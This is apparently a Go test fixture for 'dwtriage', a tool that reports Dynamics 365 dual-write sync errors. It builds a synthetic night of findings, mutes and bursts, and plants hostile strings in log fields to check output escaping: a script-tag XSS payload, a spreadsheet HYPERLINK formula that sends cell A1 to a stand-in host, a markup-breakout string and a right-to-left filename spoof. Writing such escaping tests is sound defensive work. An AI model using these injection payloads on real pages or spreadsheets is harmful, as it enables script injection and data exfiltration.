package report

import (
	"fmt"
	"slices"
	"strings"
	"time"

	"dwtriage/report/store"
	"dwtriage/report/summary"
)

// at is a time of the night that the fixture is about.
func at(clock string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05", clock)
	if err != nil {
		panic(err)
	}
	return t
}

// hostile texts stand where logs put text; none of them may act, in a browser or a spreadsheet.
const (
	hostileTag     = `<script>alert(1)</script>`
	hostileFormula = `=HYPERLINK("http://192.0.2.1/?x="&A1,"Click")`
	hostileCDATA   = `]]> --> </style></title> "quoted' &amp;`
	hostileBidi    = "invoice \u202egnp.exe"
)

// night is the fixture: twelve findings, three companies, one unknown cluster that is out for
// mischief, a file that broke off. Its sums are computed here, so every list agrees.
func night() *summary.Summary {
	s := &summary.Summary{
		Tool:        store.Tool{Version: "0.3.0", Rules: 164, RulesDigest: "sha256:5b1e7c42f0a98d3b6c15e2d70498fa61b3c7de852f1a40967e8c3d51b2f609c4"},
		Environment: "FABRIKAM-PROD",
		Run: store.Run{ID: 184, Environment: "FABRIKAM-PROD", Started: at("2026-11-23 06:00:07"), Finished: at("2026-11-23 06:04:12"),
			Since: at("2026-11-22 06:00:00"), Arguments: "dwtriage run --environment FABRIKAM-PROD --since 2026-11-22T06:00Z exports/", Thresholds: store.Thresholds{FailOn: "critical"}},
		Logs:           nightLogs(),
		From:           at("2026-11-22 07:04:52"),
		Until:          at("2026-11-23 05:55:18"),
		Findings:       nightFindings(),
		Clusters:       nightClusters(),
		Changes:        nightChanges(),
		Changed:        summary.Changed{New: 4, Resolved: 1, Ongoing: 6},
		ChangedUnknown: summary.Changed{New: 1},
		Timings:        []store.Timing{{Stage: "ingest", Seconds: 96.25}, {Stage: "classify", Seconds: 61.5004}, {Stage: "load", Seconds: 80.125}},
		ExitCode:       3,
	}
	addSignatures(s)
	addTotals(s)
	addLedger(s)
	addMutes(s)
	return s
}

// addMutes adds a mute in force, whose texts are hostile, and one that has ended.
func addMutes(s *summary.Summary) {
	s.Mutes = []summary.Mute{
		{ID: "code/0x80040217", Title: "ObjectDoesNotExist", Owner: hostileFormula, Reason: "expected until the move is over " + hostileTag, Expires: at("2026-12-31 00:00:00"), File: "site/mutes.yaml", Line: 4, Records: 7},
		{ID: "dw-payload-empty-uri", Title: "Payload not generated: the URI is empty", Owner: "Mia", Reason: "known", Expires: at("2026-11-20 00:00:00"), Expired: true, File: "site/mutes.yaml", Line: 9, Records: 31},
	}
	s.Muted = 7
	for i := range s.Findings {
		if s.Findings[i].Signature == s.Mutes[0].ID {
			s.Findings[i].Mute = &s.Mutes[0]
		}
	}
	for i := range s.Signatures {
		if s.Signatures[i].ID == s.Mutes[0].ID {
			s.Signatures[i].Mute = &s.Mutes[0]
		}
	}
}

func nightFindings() []summary.Finding {
	type m struct{ name, title, table, fno string }
	customers := m{"Customers V3", "Customers V3 (accounts)", "accounts", "CustCustomerV3Entity"}
	orders := m{"CDS sales order headers", "CDS sales order headers", "salesorders", "SalesOrderHeaderCDSEntity"}
	quotes := m{"CDS sales quotation header", "CDS sales quotation header", "quotes", "SalesQuotationHeaderCDSEntity"}
	units := m{"Units", "Units", "uoms", "UnitOfMeasureEntity"}
	vendors := m{"Vendors V2", "Vendors V2", "msdyn_vendors", "VendVendorV2Entity"}
	groups := m{"Customer groups", "Customer groups", "msdyn_customergroups", "CustCustomerGroupEntity"}
	none := m{"", "contoso_rebateclaim", "contoso_rebateclaim", ""}
	rows := []struct {
		m                          m
		company, signature, change string
		records, keys              int64
		first, last                string
	}{
		{customers, "USMF", "dw-lookup-not-resolved", "ongoing", 412, 398, "2026-11-22 21:14:09", "2026-11-23 05:52:41"},
		{orders, "USMF", "dw-lookup-not-resolved", "ongoing", 382, 382, "2026-11-22 21:16:30", "2026-11-23 05:55:18"},
		{customers, "USMF", "dw-isv-connection-attempt-failed", "new", 96, 91, "2026-11-23 01:47:12", "2026-11-23 02:30:59"},
		{quotes, "USMF", "dw-isv-connection-attempt-failed", "new", 59, 59, "2026-11-23 01:48:02", "2026-11-23 02:31:08"},
		{units, "DEMF", "dw-unable-to-sync-reference-data", "ongoing", 57, 2, "2025-12-16 10:22:47", "2026-11-22 17:40:12"},
		{customers, "DEMF", "dw-isv-connection-attempt-failed", "new", 41, 40, "2026-11-23 01:47:55", "2026-11-23 02:29:10"},
		{vendors, "GBSI", "dw-payload-empty-uri", "new", 31, 31, "2026-11-22 09:20:41", "2026-11-22 16:05:22"},
		{customers, "USMF", "unknown/t-4f1c09ae", "new", 23, 23, "2026-11-22 21:15:40", "2026-11-23 02:58:16"},
		{vendors, "DEMF", "dw-lookup-not-resolved", "ongoing", 12, 12, "2026-11-22 12:12:40", "2026-11-22 15:31:02"},
		{quotes, "GBSI", "code/0x80040217", "ongoing", 7, 7, "2026-11-22 08:00:31", "2026-11-22 17:58:44"},
		{groups, "USMF", "dw-missing-privilege-owning-team", "new", 6, 3, "2026-11-22 21:14:03", "2026-11-22 22:02:19"},
		{none, "", "unknown/t-90e3c2d5", "ongoing", 1, 1, "", ""},
	}
	var list []summary.Finding
	for i, r := range rows {
		f := summary.Finding{ID: fmt.Sprintf("%08x", 0x30d9a2af+i*7919), Map: r.m.name, MapTitle: r.m.title, DataverseTable: r.m.table, FnoEntity: r.m.fno,
			Company: r.company, Signature: r.signature, Change: r.change, Records: r.records, AffectedKeys: r.keys}
		if r.first != "" {
			f.FirstSeen, f.LastSeen = at(r.first), at(r.last)
		}
		describe(&f)
		list = append(list, f)
	}
	return list
}

const learn = "https://learn.microsoft.com/en-us/dynamics365/fin-ops-core/dev-itpro/data-entities/dual-write/dual-write-troubleshooting-live-sync"

// rule is what the fixture's rule book says about a signature.
type rule struct {
	title, category, severity, cause, file string
	priority, tier                         int
	codes                                  []string
	summary, role, retry                   string
	steps                                  []string
	sql                                    []summary.SQL
	prerequisites                          []string
}

var ruleBook = map[string]rule{
	"dw-lookup-not-resolved": {
		title: "A referenced row could not be looked up", category: "reference-data", severity: "high", file: "reference-data.yaml", priority: 75, tier: 4,
		cause:   "The row names another row that Dataverse cannot find by its key: it is missing, not synced yet, or sent in the same batch without a relationship.",
		summary: "Sync the maps that the failing rows refer to, then retry", role: "Dual-write operator", retry: "after-fix",
		steps: []string{"Run the prerequisite maps in the order given below.", "Check that the keys named in column captures of records.csv exist in Dataverse.", "Retry the failed rows from the error queue."},
		sql:   []summary.SQL{{Title: "Are the customer groups complete? (finance and operations)", Text: "SELECT CUSTGROUP, NAME, PAYMTERMID\n  FROM CUSTGROUP\n WHERE DATAAREAID = 'usmf'\n   AND CUSTGROUP < 'Ü';\n"}},

		prerequisites: []string{"Terms of payment", "Customer groups", "Customers V3"},
	},
	"dw-isv-connection-attempt-failed": {
		title: "Plug-in could not reach finance and operations", category: "connectivity", severity: "high", file: "connectivity.yaml", priority: 85, tier: 6,
		cause: "The dual-write plug-in in Dataverse called finance and operations and got no answer. The user's save failed with it.", codes: []string{"0x80040224"},
		summary: "Save the rows again once finance and operations answers.", role: "Dual-write operator", retry: "yes",
		steps: []string{"Confirm with the platform team that the servicing window is closed.", "Save the rows again in Dataverse; nobody else will retry them."},
	},
	"dw-unable-to-sync-reference-data": {
		title: "Map could not sync: reference data or stale configuration", category: "reference-data", severity: "high", file: "reference-data.yaml", priority: 70, tier: 4,
		cause:   "A record that the row depends on is on one side only, or the map works with old configuration.",
		summary: "Restart the map with clean configuration", role: "System administrator (finance and operations)", retry: "after-fix",
		steps: []string{"Stop the map.", "Run the query. If it still returns rows, note PROJECTNAME and delete them.", "Start the map and retry."},
		sql: []summary.SQL{
			{Title: "Leftover configuration", Text: "SELECT PROJECTNAME, EXTERNALENVIRONMENTURL, *\n  FROM DUALWRITEPROJECTCONFIGURATION\n WHERE INTERNALENTITYNAME = 'Units'"},
			{Title: "Its fields", Text: "SELECT * FROM DUALWRITEPROJECTFIELDCONFIGURATION\n WHERE PROJECTNAME = '<PROJECTNAME from above>'"},
		},
	},
	"dw-payload-empty-uri": {
		title: "Payload not generated: the URI is empty", category: "configuration-linking", severity: "critical", file: "linking.yaml", priority: 88,
		cause:   "The map still holds an empty environment address, left over from a link that was removed.",
		summary: "Remove the stale link of the map", role: "System administrator (finance and operations)", retry: "after-fix",
		steps: []string{"Stop the map.", "Delete the configuration rows whose address is empty."},
	},
	"dw-missing-privilege-owning-team": {
		title: "Read or write privilege missing on the owning team", category: "access", severity: "high", file: "access.yaml", priority: 88, tier: 2,
		cause: "The team that owns the row may not create or read rows of this table.", codes: []string{"0x80040220", "0x80042F09"},
		summary: "Give the owning team a role that holds the privilege", role: "System administrator (Dataverse)", retry: "after-fix",
		steps: []string{"Open the team that the message names.", "Choose Manage roles and give it a role with the privilege."},
	},
}

func describe(f *summary.Finding) {
	switch r, known := ruleBook[f.Signature]; {
	case known:
		f.Title, f.Category, f.Severity = r.title, r.category, r.severity
		f.FixSummary, f.Role, f.Retry, f.URL = r.summary, r.role, r.retry, learn
	case strings.HasPrefix(f.Signature, "code/"):
		f.Title, f.Category = "ObjectDoesNotExist", "dataverse-code"
	default:
		f.Title, f.Category = "Unknown message", "unknown"
	}
}

func nightClusters() []summary.Cluster {
	return []summary.Cluster{
		{TemplateID: "t-4f1c09ae", Template: "<NUM> exceeds the credit limit of <ID> in company <ID>. Ask <STR> for release", Title: "… exceeds the credit limit of … in company …. Ask … for release", Change: "new", Records: 23,
			FirstSeen: at("2026-11-22 21:15:40"), LastSeen: at("2026-11-23 02:58:16"), Maps: []string{"Customers V3 (accounts)"}, Companies: []string{"USMF"},
			TypeNames: []string{"Contoso.Sales.Plugins.AccountCreditCheck"},
			Sample: summary.Evidence{RecordID: "0a6f2f1e-0c7b-4f0c-9a55-5d3c1c1f7c10", File: "plugintrace-2026-11-23.zip/part-2.json", Row: 8803, ByteOffset: 20114670,
				OccurredAt: at("2026-11-22 21:15:40"), Company: "USMF", MapTitle: "Customers V3 (accounts)", TypeName: "Contoso.Sales.Plugins.AccountCreditCheck", AffectedKey: "US-031204",
				Before: "184,200.00 exceeds the credit limit of US-031204 in company USMF. Ask credit control for release."}},
		{TemplateID: "t-90e3c2d5", Template: "Rebate claim <ID>: expected " + hostileTag + " " + hostileCDATA, Title: "Rebate claim …: expected " + hostileTag + " " + hostileCDATA, Change: "ongoing", Records: 1,
			Maps: []string{"contoso_rebateclaim"}, Companies: []string{""},
			Sample: summary.Evidence{RecordID: "7e0b8c52-39f1-5d5e-8f2e-0b7a4a1d90c3", File: "gbsi-vendors.xlsx/Sheet1", Row: 2, ByteOffset: -1, OccurredRaw: "23.11.26 2 Uhr",
				AffectedKey: hostileBidi, Before: hostileTag + hostileFormula, Message: hostileFormula + "\n" + hostileTag + hostileCDATA + "\n" + strings.Repeat("Zeile mit Größe 100 €; ", 1700)}},
	}
}

// nightLogs are those of a day: dual-write errors with two days before, plug-in traces that are the first ones.
func nightLogs() []summary.Comparison {
	period := func(from, until string) summary.Period { return summary.Period{From: at(from), Until: at(until)} }
	return []summary.Comparison{
		{Log: "dualwrite", Period: period("2026-11-22 07:00:00", "2026-11-23 06:00:00"), Night: period("2026-11-22 07:00:00", "2026-11-23 06:00:00"), Whole: true,
			Before: []summary.Period{period("2026-11-21 07:00:00", "2026-11-22 06:00:00"), period("2026-11-20 07:00:00", "2026-11-21 06:00:00")}},
		{Log: "plugintrace", Period: period("2026-11-22 09:00:00", "2026-11-23 06:00:00"), Night: period("2026-11-22 09:00:00", "2026-11-23 06:00:00")},
	}
}

func nightChanges() []summary.Change {
	c := func(change, signature, mapName, title string, now, before int64, first, last string) summary.Change {
		f := summary.Finding{Signature: signature}
		describe(&f)
		return summary.Change{Change: change, Signature: signature, Title: f.Title, Severity: f.Severity, Map: mapName, MapTitle: title,
			Records: now, PreviousRecords: before, FirstSeen: at(first), LastSeen: at(last), KnownSince: at(first), Counts: []int64{now, before, 2}}
	}
	gone := c("resolved", "dw-party-record-not-found", "Customers V3", "Customers V3 (accounts)", 0, 74, "2026-09-29 08:14:26", "2026-11-21 18:20:07")
	gone.Title, gone.Severity = "Party record not found for the party type", "medium"
	return []summary.Change{
		c("new", "dw-isv-connection-attempt-failed", "Customers V3", "Customers V3 (accounts)", 137, 0, "2026-11-23 01:47:12", "2026-11-23 02:30:59"),
		c("new", "dw-isv-connection-attempt-failed", "CDS sales quotation header", "CDS sales quotation header", 59, 0, "2026-11-23 01:48:02", "2026-11-23 02:31:08"),
		c("new", "dw-payload-empty-uri", "Vendors V2", "Vendors V2", 31, 0, "2026-11-22 09:20:41", "2026-11-22 16:05:22"),
		c("new", "unknown/t-4f1c09ae", "Customers V3", "Customers V3 (accounts)", 23, 0, "2026-11-22 21:15:40", "2026-11-23 02:58:16"),
		c("new", "dw-missing-privilege-owning-team", "Customer groups", "Customer groups", 6, 0, "2026-11-22 21:14:03", "2026-11-22 22:02:19"),
		gone,
	}
}

// addSignatures derives signatures, fixes and status counts from the findings.
func addSignatures(s *summary.Summary) {
	index := map[string]int{}
	for _, f := range s.Findings {
		if strings.HasPrefix(f.Signature, "unknown/") {
			continue
		}
		i, ok := index[f.Signature]
		if !ok {
			i = len(s.Signatures)
			index[f.Signature] = i
			r := ruleBook[f.Signature]
			s.Signatures = append(s.Signatures, summary.Signature{ID: f.Signature, Title: f.Title, Status: "documented", Category: f.Category, Severity: f.Severity,
				Change: f.Change, Codes: r.codes, Meaning: r.cause, File: r.file, Priority: r.priority, FirstSeen: f.FirstSeen, LastSeen: f.LastSeen})
		}
		sig := &s.Signatures[i]
		sig.Records += f.Records
		sig.AffectedKeys += f.AffectedKeys
		sig.Where = append(sig.Where, summary.Where{MapTitle: f.MapTitle, Company: f.Company, Records: f.Records})
		if len(sig.Evidence) < 3 {
			sig.Evidence = append(sig.Evidence, proof(f))
		}
	}
	for i := range s.Signatures {
		sig := &s.Signatures[i]
		if strings.HasPrefix(sig.ID, "code/") {
			sig.Status, sig.Codes, sig.Meaning = "code", []string{strings.TrimPrefix(sig.ID, "code/")}, "The specified object was not found."
		}
	}
	slices.SortStableFunc(s.Signatures, func(a, b summary.Signature) int { return int(b.Records - a.Records) })
	addMessages(s)
	for i := range s.Signatures {
		sig := &s.Signatures[i]
		r, ok := ruleBook[sig.ID]
		if !ok {
			continue
		}
		fix := summary.Fix{Tier: r.tier, Signature: sig.ID, Title: sig.Title, Summary: r.summary, Severity: sig.Severity, Change: sig.Change, Cause: r.cause,
			Records: sig.Records, Role: r.role, Retry: r.retry, Steps: r.steps, SQL: r.sql, Prerequisites: r.prerequisites, URL: learn, FirstSeen: sig.FirstSeen, LastSeen: sig.LastSeen}
		fix.Entities = distinct(sig.Where, func(w summary.Where) string { return w.MapTitle })
		fix.Companies = distinct(sig.Where, func(w summary.Where) string { return w.Company })
		fix.Parts = []summary.Part{{Signature: fix.Signature, Title: fix.Title, Severity: fix.Severity, Cause: fix.Cause, Records: fix.Records,
			FirstSeen: fix.FirstSeen, LastSeen: fix.LastSeen, Steps: fix.Steps, SQL: fix.SQL, URL: fix.URL}}
		if fix.PassesByItself() {
			fix.OverSince = fix.LastSeen
		}
		s.Fixes = append(s.Fixes, fix)
		sig.Fix = &fix
	}
	slices.SortStableFunc(s.Fixes, func(a, b summary.Fix) int { return a.Tier - b.Tier })
	for i := range s.Fixes {
		f := &s.Fixes[i]
		f.Rank = i + 1
		at := slices.IndexFunc(s.Signatures, func(sig summary.Signature) bool { return sig.ID == f.Signature })
		s.Signatures[at].Ranks = []int{f.Rank}
	}
}

// addMessages makes one signature that of a wrapper, under which one message is hostile and more are told apart than
// the page shows.
func addMessages(s *summary.Summary) {
	const id = "dw-isv-connection-attempt-failed"
	for i := range s.Signatures {
		if sig := &s.Signatures[i]; sig.ID == id {
			sig.Messages = []summary.Message{{TemplateID: "t-a1b2c3d4e5f6", Text: "Gate " + hostileTag + hostileCDATA + " is shut", Records: sig.Records - mostMessages}}
			for n := range mostMessages {
				sig.Messages = append(sig.Messages, summary.Message{TemplateID: fmt.Sprintf("t-a1b2c3d4e%03d", n), Text: fmt.Sprintf("Gate %c of … is shut", 'A'+n), Records: 1})
			}
		}
	}
	for i := range s.Findings {
		if f := &s.Findings[i]; f.Signature == id {
			f.TemplateID, f.Title = "t-a1b2c3d4e5f6", "Gate "+hostileTag+hostileCDATA+" is shut"
		}
	}
}

func proof(f summary.Finding) summary.Evidence {
	full := "Cannot save the changes to the database. Unit of Work can not commit transaction.\nUnable to write data to entity " + f.DataverseTable +
		". Unable to look up rows with values {" + hostileTag + "}.\nWrites to " + f.FnoEntity + " failed with error message Exception message: One or more errors occurred.."
	return summary.Evidence{RecordID: "c40b9f6e-18d5-5e02-94b7-2f6a0d3c85" + f.ID[6:], File: "dualwrite-2026-11-23.csv.gz", Row: 121 + f.Records, ByteOffset: 82233 + f.Records,
		OccurredAt: f.FirstSeen, Company: f.Company, MapTitle: f.MapTitle, AffectedKey: "US-031187",
		Before: "… Unable to write data to entity " + f.DataverseTable + ". ", Matched: "Unable to look up rows with values {" + hostileTag + "}", After: ". Writes to " + f.FnoEntity + " failed …", Message: full}
}

// addTotals derives the counts and the heat table from the findings.
func addTotals(s *summary.Summary) {
	names := map[string]bool{}
	status, severity := map[string]int64{}, map[string]int64{}
	for _, f := range s.Findings {
		s.Failing += f.Records
		names[f.MapTitle] = true
		severity[sevClass(f.Severity)] += f.Records
		switch {
		case strings.HasPrefix(f.Signature, "unknown/"):
			s.Unknown += f.Records
			status["unknown"] += f.Records
		case strings.HasPrefix(f.Signature, "code/"):
			status["code"] += f.Records
		default:
			status["documented"] += f.Records
		}
	}
	s.Listed = s.Failing
	s.OK = 40854
	s.Records, s.Entities = s.OK+s.Failing, len(names)
	s.Logs[0].Failing, s.Logs[0].Records = s.Failing, s.Records // all are dual-write errors
	status["ok"] = s.OK
	for _, name := range []string{"documented", "observed", "code", "unknown", "ok"} {
		if status[name] > 0 {
			s.Statuses = append(s.Statuses, summary.Count{Name: name, Records: status[name]})
		}
	}
	for _, name := range severities {
		if severity[name] > 0 {
			s.Severities = append(s.Severities, summary.Count{Name: name, Records: severity[name]})
		}
	}
	addHeat(s)
	addTimeline(s)
	s.EachRecord = eachRecord(s)
	s.EachCaptures = s.EachRecord
}

// addTimeline puts all records of a finding where its first one is, and the ok ones where the night ends.
func addTimeline(s *summary.Summary) {
	t := summary.Timeline{From: at("2026-11-22 07:00:00"), Until: at("2026-11-23 06:00:00"), Width: 15 * time.Minute, Severities: []string{"critical", "high", "medium", "low", "info", ""}}
	for range 4 * 23 {
		t.Buckets = append(t.Buckets, summary.Bucket{BySeverity: make([]int64, len(t.Severities))})
	}
	for _, f := range s.Findings {
		switch {
		case f.FirstSeen.IsZero():
			t.Untimed, t.UntimedFailing = t.Untimed+f.Records, t.UntimedFailing+f.Records
		case f.FirstSeen.Before(t.From):
			t.Outside, t.OutsideFailing = t.Outside+f.Records, t.OutsideFailing+f.Records
		default:
			b := &t.Buckets[f.FirstSeen.Sub(t.From)/t.Width]
			b.Failing += f.Records
			b.BySeverity[slices.Index(t.Severities, f.Severity)] += f.Records
		}
	}
	t.Buckets[len(t.Buckets)-1].OK = s.OK
	s.Timeline = t
	s.Alerts = []summary.Alert{{Map: hostileTag, At: at("2026-11-22 21:20:05"), Records: 412}}
	s.BurstCount = 40 // of which two are listed
	s.Bursts = []summary.Burst{
		{Kind: "signature", Name: "dw-isv-connection-attempt-failed", Title: "Plug-in could not reach finance and operations", Severity: "high",
			Onset: at("2026-11-23 01:47:12"), End: at("2026-11-23 02:31:08"), From: at("2026-11-23 01:45:00"), Until: at("2026-11-23 02:45:00"), Peak: at("2026-11-23 01:45:00"),
			PeakRecords: 196, Records: 219, Maps: []string{"Customers V3 (accounts)", hostileTag}, Host: hostileFormula, User: hostileBidi,
			Parts: []summary.BurstPart{
				{Signature: "dw-isv-connection-attempt-failed", Title: "Plug-in could not reach finance and operations", Severity: "high", Records: 196},
				{Signature: "unknown/t-4f1c09ae", Title: hostileTag, Records: 23}}},
		{Kind: "map", Name: "Units", Title: "A burst of failures", Onset: at("2026-11-23 05:31:00"), End: at("2026-11-23 05:55:18"), GoesOn: true,
			From: at("2026-11-23 05:30:00"), Until: at("2026-11-23 06:00:00"), Peak: at("2026-11-23 05:30:00"), PeakRecords: 5, Records: 6, Maps: []string{"Units"}},
	}
}

func addHeat(s *summary.Summary) {
	s.Heat.Categories = distinct(s.Findings, func(f summary.Finding) string { return f.Category })
	s.Heat.Companies = distinct(s.Findings, func(f summary.Finding) string { return f.Company })
	if len(s.Findings) == 0 {
		return
	}
	group := func(company string, all bool) summary.HeatGroup {
		g := summary.HeatGroup{Company: company, All: all}
		row := map[string]int{}
		for _, f := range s.Findings {
			if !all && f.Company != company {
				continue
			}
			i, ok := row[f.MapTitle]
			if !ok {
				i = len(g.Rows)
				row[f.MapTitle] = i
				g.Rows = append(g.Rows, summary.HeatRow{MapTitle: f.MapTitle, Cells: make([]int64, len(s.Heat.Categories))})
			}
			g.Records += f.Records
			g.Rows[i].Records += f.Records
			g.Rows[i].Cells[slices.Index(s.Heat.Categories, f.Category)] += f.Records
		}
		slices.SortStableFunc(g.Rows, func(a, b summary.HeatRow) int { return int(b.Records - a.Records) })
		return g
	}
	s.Heat.Groups = append(s.Heat.Groups, group("", true))
	for _, c := range s.Heat.Companies {
		s.Heat.Groups = append(s.Heat.Groups, group(c, false))
	}
}

// eachRecord makes as many records as the findings count. The message of the first is hostile.
func eachRecord(s *summary.Summary) func(func(*summary.Record) error) error {
	return func(yield func(*summary.Record) error) error {
		row := int64(1)
		for _, f := range s.Findings {
			for range f.Records {
				row++
				r := summary.Record{Where: f.MapTitle, ByteLength: 310, RecordID: fmt.Sprintf("%08x-0000-5000-8000-%012x", row, row), File: "dualwrite-2026-11-23.csv.gz", Row: row, ByteOffset: row * 310, OccurredAt: f.FirstSeen,
					Log: "dualwrite", Environment: s.Environment, Map: f.Map, DataverseTable: f.DataverseTable, FnoEntity: f.FnoEntity, Entity: f.DataverseTable, Company: f.Company,
					Status: "documented", Signature: f.Signature, Signatures: []string{f.Signature, "dw-write-failed-generic"}, Category: f.Category, Severity: f.Severity,
					Captures: []summary.Capture{{Name: "a_key", Value: "Müller; Söhne"}, {Name: "entity", Value: f.DataverseTable}}, AffectedKey: fmt.Sprintf("-%06d", row), Message: "Unable to write data, \"quoted\"", Title: f.Title, FixSummary: f.FixSummary, Role: f.Role}
				if strings.HasPrefix(f.Signature, "unknown/") {
					r.Status, r.Signature, r.Signatures, r.TemplateID = "unknown", "", nil, strings.TrimPrefix(f.Signature, "unknown/")
					r.ByteOffset, r.Message = -1, hostileFormula+hostileTag
				}
				if err := yield(&r); err != nil {
					return err
				}
			}
		}
		return nil
	}
}

func addLedger(s *summary.Summary) {
	rejects := []summary.Reject{
		{File: "plugintrace-2026-11-23.zip/part-2.json", Row: 11034, ByteOffset: 25300118, Column: "plugintracelogid", Reason: "not a GUID", Excerpt: `"plugintracelogid": "n/a"`},
		{File: "dualwrite-2026-11-23.csv.gz", Row: 402, ByteOffset: 260771, Reason: "more cells than the header has", Excerpt: "…,\"Main St 4, Rear\",USMF,\r\n" + hostileTag},
		{File: "dualwrite-2026-11-23.csv.gz", Row: 977, ByteOffset: 310905, Reason: "quote is not closed", Excerpt: hostileFormula},
	}
	s.RejectReasons = []summary.RejectReason{{Reason: "not a GUID", Rows: 1, First: rejects[0]}, {Reason: "more cells than the header has", Rows: 1, First: rejects[1]}, {Reason: "quote is not closed", Rows: 1, First: rejects[2]}}
	s.EachReject = func(yield func(*summary.Reject) error) error {
		for i := range rejects {
			if err := yield(&rejects[i]); err != nil {
				return err
			}
		}
		return nil
	}
	dualwrite := store.Counts{Rejected: 2, Duplicates: 19, Classified: s.Failing - s.Unknown, Unclassified: 0}
	traces := store.Counts{Rejected: 1, Duplicates: 3412, Filtered: 118, OK: s.OK, Unclassified: s.Unknown}
	for _, c := range []*store.Counts{&dualwrite, &traces} {
		c.Loaded = c.OK + c.Classified + c.Unclassified
		c.Read = c.Loaded + c.Duplicates + c.Rejected + c.Filtered
	}
	s.Inputs = []store.Input{
		{Path: "dualwrite-2026-11-23.csv.gz", Bytes: 311204, Container: "gzip", Encoding: "utf-8", Format: "csv", Log: "dualwrite", Counts: dualwrite,
			Warnings: []string{"2 header names are not known: Comment, Größe"}},
		{Path: "plugintrace-2026-11-23.zip/part-2.json", Bytes: 56990400, Container: "zip", Encoding: "utf-8", Format: "json", Log: "plugintrace", Counts: traces, Digest: "6346d2149871938e8bb328db2e34d616"},
		{Path: "plugintrace-2026-11-24.csv.gz", Bytes: 0, Container: "gzip", Format: "csv", Log: "plugintrace", Problem: "unexpected end of the gzip stream at byte 0"},
	}
	for _, in := range s.Inputs {
		s.Totals.Read += in.Read
		s.Totals.Loaded += in.Loaded
		s.Totals.Duplicates += in.Duplicates
		s.Totals.Rejected += in.Rejected
		s.Totals.Filtered += in.Filtered
		s.Totals.OK += in.OK
		s.Totals.Classified += in.Classified
		s.Totals.Unclassified += in.Unclassified
	}
}
